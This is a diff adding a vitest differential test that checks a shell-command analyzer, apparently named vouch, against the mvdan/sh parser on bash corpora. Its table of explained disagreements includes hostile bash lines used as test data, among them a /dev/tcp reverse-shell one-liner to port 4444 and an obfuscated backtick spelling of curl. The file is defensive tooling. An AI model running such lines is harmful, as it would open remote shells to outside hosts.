@@ -1,0 +1,62 @@
+// Parse differential against mvdan/sh: over the corpus inside npm test, over nl2bash under `npm run fuzz:parse-diff`.
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { type Analyzer, createAnalyzer } from '../src/index.js';
+import { loadCorpus } from './corpus.js';
+import { type ParseDisagreement, parseDiff } from './parse-diff.js';
+import { LONG } from './scale.js';
+
+let analyzer: Analyzer;
+beforeAll(async () => {
+  analyzer = await createAnalyzer({ dialects: ['bash'] });
+});
+
+function diffAll(lines: { command: string; cwd?: string; home?: string }[]): ParseDisagreement[] {
+  const out: ParseDisagreement[] = [];
+  for (const l of lines) {
+    const d = parseDiff(l.command, analyzer.analyze({ command: l.command, shell: 'bash', cwd: l.cwd ?? '/home/dev/project', home: l.home ?? '/home/dev' }));
+    if (d) out.push(d);
+  }
+  return out;
+}
+
+function summarise(name: string, total: number, ds: ParseDisagreement[], show: number): void {
+  const byKind = new Map<string, number>();
+  for (const d of ds) byKind.set(d.kind, (byKind.get(d.kind) ?? 0) + 1);
+  console.log(`parse-diff ${name}: ${total} lines, ${ds.length} disagreements ${JSON.stringify(Object.fromEntries(byKind))}`);
+  for (const d of ds.slice(0, show)) console.log(`  [${d.kind}] ${JSON.stringify(d.command.slice(0, 160))}\n     vouch=${JSON.stringify(d.vouch)} mvdan=${JSON.stringify(d.mvdan)}`);
+}
+
+// Corpus lines where the two parsers differ, each classified. `mvdan right` is a vouch bug: the check asserts it
+// still differs, so the fix turns this red until the entry goes.
+const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: string }> = {
+  'exec 3<>/dev/tcp/203.0.113.5/80': { right: 'mvdan', why: 'tree-sitter-bash reports an error on `N<>` after exec; vouch fails closed' },
+  '0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196': { right: 'mvdan', why: 'the same `N<>` error' },
+  'H=203.0.113.5; exec 5<>"/dev/tcp/$H/80"': { right: 'mvdan', why: 'the same `N<>` error' },
+  '{ echo GET / >&3; } 3<>/dev/tcp/example.com/80': { right: 'mvdan', why: 'the same `N<>` error, on a group' },
+  '`printf cu``printf rl` x': { right: 'mvdan', why: 'adjacent backticks lowered as one substitution; vouch still denies (dynamic command)' },
+};
+
+describe('parse differential against mvdan/sh', () => {
+  it('agrees with mvdan on the program names of every bash corpus line, or the difference is explained', () => {
+    const cases = loadCorpus().filter((c) => c.shell === 'bash' && c.command.length < 4_000);
+    const ds = diffAll(cases);
+    summarise('corpus', cases.length, ds, 40);
+    expect(ds.filter((d) => !(d.command in EXPLAINED)).map((d) => `${d.kind}: ${d.command}`)).toEqual([]);
+    const differing = new Set(ds.map((d) => d.command));
+    const fixed = Object.entries(EXPLAINED).filter(([c, e]) => e.right === 'mvdan' && !differing.has(c));
+    expect(fixed.map(([c]) => c), 'vouch now agrees with mvdan here: remove the EXPLAINED entry').toEqual([]);
+  });
+
+  it.runIf(LONG || process.env.VOUCH_PARSE_DIFF === '1')('reports disagreements over nl2bash', () => {
+    const lines = readFileSync(join(import.meta.dirname, '..', '..', 'shared', 'corpora', 'nl2bash.cm'), 'utf8')
+      .split('\n')
+      .filter((l) => l.trim() !== '')
+      .map((command) => ({ command }));
+    const ds = diffAll(lines);
+    summarise('nl2bash', lines.length, ds, 80);
+    // A report, not a gate: every disagreement is classified by hand and fixed or explained.
+    expect(lines.length).toBeGreaterThan(10_000);
+  }, 600_000);
+});
